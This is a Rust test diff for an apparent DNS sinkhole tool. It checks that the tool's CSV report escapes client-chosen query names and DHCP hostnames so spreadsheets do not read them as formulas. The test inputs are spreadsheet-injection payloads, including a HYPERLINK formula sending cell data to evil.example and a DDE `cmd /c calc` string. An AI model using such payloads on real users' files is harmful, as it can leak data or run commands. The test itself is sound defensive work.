@@ -643,3 +643,75 @@ fn machines_behind_a_router_stay_apart_by_a_full_length_client_subnet() {
     );
     assert_eq!(h["hits"], 3, "{out}");
 }
+
+/// Splits one CSV line into its fields (quoted fields as RFC 4180 writes them).
+fn csv_fields(line: &str) -> Vec<String> {
+    let (mut out, mut cur, mut quoted, mut chars) =
+        (Vec::new(), String::new(), false, line.chars().peekable());
+    while let Some(ch) = chars.next() {
+        match (ch, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cur.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => out.push(std::mem::take(&mut cur)),
+            _ => cur.push(ch),
+        }
+    }
+    out.push(cur);
+    out
+}
+
+/// Query names (and DHCP hostnames) are the client's choice: in `report --format csv` none may start a field
+/// a spreadsheet reads as a formula.
+#[test]
+fn report_csv_cannot_carry_a_formula() {
+    let dir = tempdir("csv-formula");
+    std::fs::write(
+        dir.join("dnsmasq.leases"),
+        "4000000000 aa:00:00:00:00:03 127.0.0.3 @sum(1+1) *\n",
+    )
+    .unwrap();
+    let events = dir.join("events.log");
+    let c = C2sink::start_in(
+        &dir,
+        C2,
+        &format!(
+            "[log]\nevents = \"{}\"\n[clients]\narp = \"\"\nndp = false\n\
+             leases = [{{ format = \"dnsmasq\", path = \"dnsmasq.leases\" }}]\n",
+            events.display()
+        ),
+    );
+    let names = [
+        format!("=hyperlink(\"http://evil.example/\"&b2).{C2}"),
+        format!("+cmd|'/c calc'!a0.{C2}"),
+        format!("-2+3.{C2}"),
+        format!("@sum(1).{C2}"),
+    ];
+    for n in &names {
+        c.udp("127.0.0.3", n, 1);
+    }
+    c.stop();
+    let (code, out, err) = run(&["report", "--format", "csv", events.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let rows: Vec<Vec<String>> = out.lines().skip(1).map(csv_fields).collect();
+    assert_eq!(rows.len(), names.len(), "{out}");
+    for row in &rows {
+        for f in row {
+            assert!(
+                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula in {f:?}: {out}"
+            );
+        }
+        assert_eq!(row[1], "'@sum(1+1)", "the hostname is kept, as text: {out}");
+    }
+    let mut qnames: Vec<&str> = rows.iter().map(|r| r[4].as_str()).collect();
+    qnames.sort();
+    let mut want: Vec<String> = names
+        .iter()
+        .map(|n| format!("'{}", n.replace(' ', "\\032")))
+        .collect();
+    want.sort();
+    assert_eq!(qnames, want, "{out}");
+}
